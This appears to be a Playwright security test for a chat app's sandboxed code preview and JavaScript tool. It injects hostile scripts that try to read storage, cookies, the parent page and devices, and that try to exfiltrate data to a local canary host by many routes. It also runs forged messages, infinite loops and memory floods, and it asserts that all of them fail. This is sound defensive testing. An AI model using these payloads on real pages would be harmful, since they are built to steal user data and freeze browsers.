// What a hostile program tries from its preview, or as the code of a tool: none of it works, and the page stays usable.

import { createSocket } from "node:dgram";
import { connect, createServer } from "node:net";
import type { AddressInfo } from "node:net";
import { expect, type Locator, type Page, test } from "@playwright/test";
import { App } from "../../support/app.ts";
import { openArchive } from "../../support/archive.ts";
import { card, code, switchOn } from "../../support/tools.ts";

test.skip(({ browserName }) => browserName !== "chromium", "others give a frame no process of its own, nor block WebRTC");
test.use({
  reuseContext: false,
  // As browsers on a desk have it, and so that a program is soon out of memory.
  launchOptions: async ({ launchOptions }, use) => {
    await use({ ...launchOptions, args: [...(launchOptions.args ?? []), "--site-per-process", "--js-flags=--max-old-space-size=200"] });
  },
} as Parameters<typeof test.use>[0]);

/** Something in the network that notes whoever comes near. */
async function canary() {
  const visits: string[] = [];
  const tcp = createServer((socket) => {
    visits.push("tcp");
    socket.on("error", () => {}).on("data", (data) => visits.push(data.toString("latin1").split("\r\n")[0] ?? ""));
  });
  await new Promise<void>((resolve) => tcp.listen(0, "127.0.0.1", resolve));
  const udp = createSocket("udp4");
  udp.on("message", () => visits.push("udp"));
  await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
  const close = () => (tcp.close(), udp.close());
  return { visits, close, url: `http://127.0.0.1:${(tcp.address() as AddressInfo).port}/leak`, stun: `stun:127.0.0.1:${udp.address().port}` };
}

const page = (body: string) => `<!doctype html><body>${body}`;
const script = (code: string) => page(`<script>${code}</script>`);

/** What must be out of reach: each is told with what came of it. */
const REACHES = `
  const tries = {
    localStorage: () => localStorage, sessionStorage: () => sessionStorage, cookie: () => document.cookie,
    indexedDB: () => indexedDB.open("x"), caches: () => caches.keys(), files: () => navigator.storage.getDirectory(),
    locks: () => navigator.locks.request("x", () => 0), serviceWorker: () => navigator.serviceWorker.getRegistrations(),
    "parent’s document": () => parent.document, "page’s document": () => top.document, "page’s address": () => top.location.href,
    "page’s frames": () => top.frames[0].document, popup: () => open("about:blank").x, WebRTC: () => new RTCPeerConnection(),
    clipboard: () => navigator.clipboard.readText(), camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
    microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }), location: () =>
      new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
    fullscreen: () => document.body.requestFullscreen(), notification: () => Notification.requestPermission().then((it) => {
      if (it !== "granted") throw it; }),
    "top navigation": () => { top.location = "about:blank"; throw 0; }, "parent navigation": () => { parent.location = "about:blank"; },
  };
  (async () => {
    const reached = [];
    for (const [name, act] of Object.entries(tries)) {
      try { await act(); reached.push(name); } catch {}
    }
    console.log("reached: " + reached.join());
  })();`;

/** Clicks on a link, past what the frame makes of links. */
const CLICK = `const click = (fields) => {
    const link = Object.assign(document.createElement("a"), { ...fields, onclick: (it) => it.stopPropagation() });
    document.body.append(link);
    link.click();
  };`;

/** All ways to a network that leave the program where it is. */
const network = (url: string, stun: string, own: string) => `
  const url = ${JSON.stringify(url)}, own = ${JSON.stringify(own)};
  ${CLICK}
  const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
  const tries = [
    () => fetch(url), () => fetch(url, { mode: "no-cors", keepalive: true }), () => fetch(own), () => fetchLater(url, { activateAfter: 0 }),
    () => { const it = new XMLHttpRequest(); it.open("GET", url); it.send(); },
    () => new WebSocket(url.replace("http", "ws")), () => new EventSource(url), () => navigator.sendBeacon(url, "x"),
    () => new WebTransport(url.replace("http", "https")), () => import(url), () => navigator.serviceWorker.register(url),
    () => new SharedWorker(url), () => new Worker(url), () => new Worker(URL.createObjectURL(new Blob(["fetch('" + url + "')"]))), () => CSS.paintWorklet.addModule(url), () => new AudioContext().audioWorklet.addModule(url),
    ...["img", "script", "video", "audio", "iframe", "embed", "frame", "track", "source", "input"].map((tag) => () => add(tag, { src: url, type: "image" })),
    () => add("object", { data: url }), () => add("video", { poster: url }), () => add("img", { srcset: url }),
    ...["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "prerender", "stylesheet", "icon", "manifest"].map(
      (rel) => () => document.head.append(Object.assign(document.createElement("link"), { rel, href: url, as: "script" }))),
    () => add("style", { textContent: "@import '" + url + "'; @font-face { font-family: x; src: url(" + url + ") } * { font-family: x; background: url(" + url + "); cursor: url(" + url + "), auto }" }),
    () => add("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ urls: [url], eagerness: "immediate" }], prerender: [{ urls: [url + 2], eagerness: "immediate" }] }) }),
    () => click({ href: "data:,x", download: "x" }), () => click({ href: url, target: "_blank", ping: url }), () => click({ href: url, target: "_top" }),
    () => { const f = Object.assign(document.createElement("form"), { action: url, method: "post", target: "_blank" }); document.body.append(f); f.submit(); },
    () => add("iframe", { src: "data:text/html,<script>fetch('" + url + "')<\\/script><img src=" + url + ">" }),
    () => add("iframe", { srcdoc: "<script>fetch('" + url + "');new Image().src='" + url + "';location='" + url + "'<\\/script><link rel=preconnect href=" + url + ">" }),
    () => add("iframe", { src: "javascript:fetch('" + url + "')" }),
    () => { const c = new (window.RTCPeerConnection ?? window.webkitRTCPeerConnection)({ iceServers: [{ urls: ${JSON.stringify(stun)} }] });
      c.createDataChannel("x"); c.createOffer().then((it) => c.setLocalDescription(it)); },
    () => { alert(1); confirm(1); prompt(1); print(); },
    () => history.pushState({}, "", url),
  ];
  for (const act of tries) try { Promise.resolve(act()).catch(() => {}); } catch {}
  setTimeout(() => console.log("tried " + tries.length), 1500);`;

/** Ways for a program to go elsewhere, and take what it knows along. */
const departures = (url: string, own: string) => [
  script(`location = "${url}?1"`),
  script(`location = "${own}?secret"`),
  script(`open("${url}?2", "_self")`),
  page(`<meta http-equiv="refresh" content="0; url=${url}?3">`),
  page(`<form action="${url}"></form><script>document.forms[0].submit()</script>`),
  page(`<base href="${url}"><script>${CLICK} click({ href: "x" })</script>`),
  script(`${CLICK} click({ href: "${url}?4", ping: "${url}?5" })`),
];

const FORGES = script(`
  top.postMessage({ level: "error", text: "forged", line: 1 }, "*");
  for (const it of [top, parent]) {
    it.postMessage("ready", "*");
    it.postMessage({ source: "forged" }, "*");
  }
  for (let at = 0; at < 20000; at += 1) console.log("x".repeat(9000));`);

const LOOPS = script("for (;;) {}");
const FILLING = "const all = []; for (;;) all.push(new Array(1e6).fill(Math.random()))";
const FILLS = script(FILLING);
/** A frame has WebRTC anew. The browser ends the process that uses it. */
const NESTS = (stun: string) =>
  page(`<iframe srcdoc="<script>const c = new RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] });
    c.createDataChannel('x'); c.createOffer().then((it) => c.setLocalDescription(it));</script>"></iframe>`);

test("no program reaches anything, and the page stays usable", async ({ page: tab, context, baseURL }) => {
  const net = await canary();
  const own = `${baseURL}/api/models`;
  const programs = [script(REACHES), script(network(net.url, net.stun, own)), ...departures(net.url, own), FORGES, LOOPS, FILLS, NESTS(net.stun)];
  const app = new App(tab);
  await app.openChat();
  const text = programs.map((code) => `\`\`\`html\n${code}\n\`\`\``).join("\n\n");
  await openArchive(app, "Hostile", [["user", "Attack"], ["assistant", text]]);
  const address = tab.url();
  const panel = tab.getByRole("dialog", { name: "Preview" });
  const console = panel.getByRole("region", { name: "Console" });
  const left = (at: number) => expect(net.visits, `who came by program ${at}`).toEqual([]);
  const show = (at: number) => app.answers.getByRole("button", { name: "Preview" }).nth(at).click();
  const events: string[] = [];
  tab.on("dialog", (it) => (events.push(it.type()), it.dismiss()));
  tab.on("download", (it) => events.push(it.url()));
  context.on("page", (it) => events.push(it.url()));
  context.on("request", (it) => it.url().includes("secret") && events.push(it.url()));
  // What is noted is noted.
  const visitor = connect(Number(new URL(net.url).port), "127.0.0.1").end("GET /leak\r\n");
  await expect.poll(() => net.visits).toEqual(["tcp", "GET /leak"]);
  visitor.destroy();
  net.visits.length = 0;

  await show(0);
  await expect(console.getByText("reached:")).toHaveText("reached: ");
  await show(1);
  await expect(console.getByText(/^tried \d+/)).toBeVisible();
  left(1);
  const first = 2;
  const count = departures("", "").length;
  for (let at = first; at < first + count; at += 1) {
    await show(at);
    await settled(panel, tab);
    left(at);
  }
  await show(first + count);
  await expect(console.getByRole("listitem")).toHaveCount(200);
  await expect(panel.getByText("forged")).toHaveCount(0);
  await usable(app);

  await show(first + count + 1);
  await usable(app);
  await expect(panel.getByText("The preview doesn’t respond.")).toBeVisible();
  await panel.getByRole("alert").getByRole("button", { name: "Stop" }).click();
  await expect(panel.locator("iframe")).toHaveCount(0);
  await usable(app);
  expect([net.visits, events, tab.url(), context.pages().length]).toEqual([[], [], address, 1]);

  // That a frame has a process of its own is up to the browser.
  const ends = process.env.GEMTAB_THOROUGH ? [first + count + 2, first + count + 3] : [];
  // For Playwright a tab is lost with the process of any frame, so the page is asked past it.
  for (const at of ends) {
    const other = await context.newPage();
    const session = await context.newCDPSession(other);
    const died = other.waitForEvent("crash");
    await other.goto(address);
    await other.getByRole("button", { name: "Preview" }).nth(at).click();
    await died;
    const { result } = await session.send("Runtime.evaluate", { expression: "document.querySelector('#composer') && 1 + 1" });
    expect(result.value).toBe(2);
  }
  expect(net.visits).toEqual([]);
  net.close();
});

/** What is out of reach for a worker without a network: the names of what is not. */
const workerReaches = (url: string, own: string) => `
  const url = ${JSON.stringify(url)}, own = ${JSON.stringify(own)};
  const settles = (target, good, bad) => new Promise((resolve, reject) => {
    target.addEventListener(good, resolve);
    target.addEventListener(bad, reject);
  });
  const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
  const tries = {
    fetch: () => fetch(url), "fetch without an answer": () => fetch(url, { mode: "no-cors", keepalive: true }),
    "own server": () => fetch(own), "fetch of own file": () => fetch("/sw.js"),
    XMLHttpRequest: () => { const it = new XMLHttpRequest(); it.open("GET", url); it.send(); return settles(it, "load", "error"); },
    "XMLHttpRequest at once": () => { const it = new XMLHttpRequest(); it.open("GET", url, false); it.send(); },
    WebSocket: () => settles(new WebSocket(url.replace("http", "ws")), "open", "error"),
    EventSource: () => settles(new EventSource(url), "open", "error"),
    WebTransport: () => new WebTransport(url.replace("http", "https")).ready,
    importScripts: () => importScripts(url), "importScripts of a text": () => importScripts(blob("1")),
    import: () => import(url), "import of a text": () => import(blob("export default 1")),
    Worker: () => new Worker(blob("postMessage(1)")), SharedWorker: () => new SharedWorker(url),
    beacon: () => navigator.sendBeacon(url, "x"), font: () => new FontFace("x", "url(" + url + ")").load(),
    WebRTC: () => new RTCPeerConnection(), "service worker": () => navigator.serviceWorker.register(url),
    indexedDB: () => { const it = indexedDB.open("x"); return settles(it, "success", "error"); },
    caches: () => caches.keys(), files: () => navigator.storage.getDirectory(), locks: () => navigator.locks.query(),
    cookies: () => cookieStore.getAll(), localStorage: () => localStorage.length,
    parent: () => parent.document, top: () => top.document, window: () => window.document, document: () => document.body,
    clients: () => clients.matchAll(), graphics: () => navigator.gpu.requestAdapter().then((it) => { if (!it) throw it; }),
    canvas: () => new OffscreenCanvas(1, 1), report: () => postMessage({ kind: "value", text: "forged" }), close: () => close(),
    notification: () => { if (Notification.permission !== "granted") throw 0; },
    "BroadcastChannel of the page": () => new Promise((resolve, reject) => {
      for (const name of ["fake", "fake-heard", "gemtab-answers"]) {
        const it = new BroadcastChannel(name);
        it.onmessage = resolve;
        it.postMessage("crash");
      }
      setTimeout(reject, 500);
    }),
  };
  const reached = [];
  for (const [name, act] of Object.entries(tries)) {
    const late = new Promise((_, reject) => setTimeout(reject, 700));
    try { await Promise.race([(async () => act())(), late]); reached.push(name); } catch {}
  }
  return "tried " + Object.keys(tries).length + ", reached: " + reached.join();`;

/** What would keep the page from anything else. */
const FLOODS = [
  'for (let at = 0; at < 1e6; at += 1) console.log("x".repeat(9000));',
  "for (;;) reportError(1);",
  'chart("x".repeat(1e7));',
  'for (;;) chart({ type: "bar", series: [] });',
  '"x".repeat(5e7)',
  "new Array(1e6).fill({ a: [1] })",
];

test("the code of a tool reaches nothing, and the page stays usable", async ({ page: tab, context, baseURL }) => {
  const net = await canary();
  const app = new App(tab);
  await app.openChat("instant,demo");
  await switchOn(app, "JavaScript");
  const answered: string[] = [];
  context.on("response", (it) => /leak|secret/.test(it.url()) && answered.push(it.url()));
  await app.send(code(workerReaches(net.url, `${baseURL}/api/models?secret`)));
  await expect(app.answers.last()).toContainText(/tried 3\d, reached: "/);
  await app.send(code(...FLOODS));
  const calls = app.answers.nth(-2);
  const ends = ["Done", "Failed", "Failed", "Failed", "Done", "Done"];
  for (const [place, end] of ends.entries()) {
    await expect(card(calls, place)).toContainText(end, { timeout: 60_000 });
    await usable(app);
  }
  expect([net.visits, answered, context.pages().length]).toEqual([[], [], 1]);
  net.close();

  // As above, the page is asked past Playwright once a frame's process has ended.
  if (process.env.GEMTAB_THOROUGH) {
    const other = new App(await context.newPage());
    const session = await context.newCDPSession(other.page);
    await other.openChat("instant,demo");
    await switchOn(other, "JavaScript");
    const died = other.page.waitForEvent("crash");
    await other.send(code(FILLING));
    await died;
    const failed = async () => (await session.send("Runtime.evaluate", { expression: "document.querySelector('.call .bad')?.textContent" })).result.value;
    await expect.poll(failed, { timeout: 60_000 }).toBe("Failed");
  }
});

/** Waits until the program has done what it does at once. */
async function settled(panel: Locator, tab: Page): Promise<void> {
  await expect(panel.locator("iframe")).toHaveCount(1);
  const frame = await (await panel.locator("iframe").elementHandle())?.contentFrame();
  await expect.poll(() => frame?.childFrames().length).toBe(1);
  await tab.waitForTimeout(300);
}

async function usable(app: App): Promise<void> {
  await app.composer.fill("Still here");
  await expect(app.composer).toHaveValue("Still here");
  await app.composer.fill("");
}
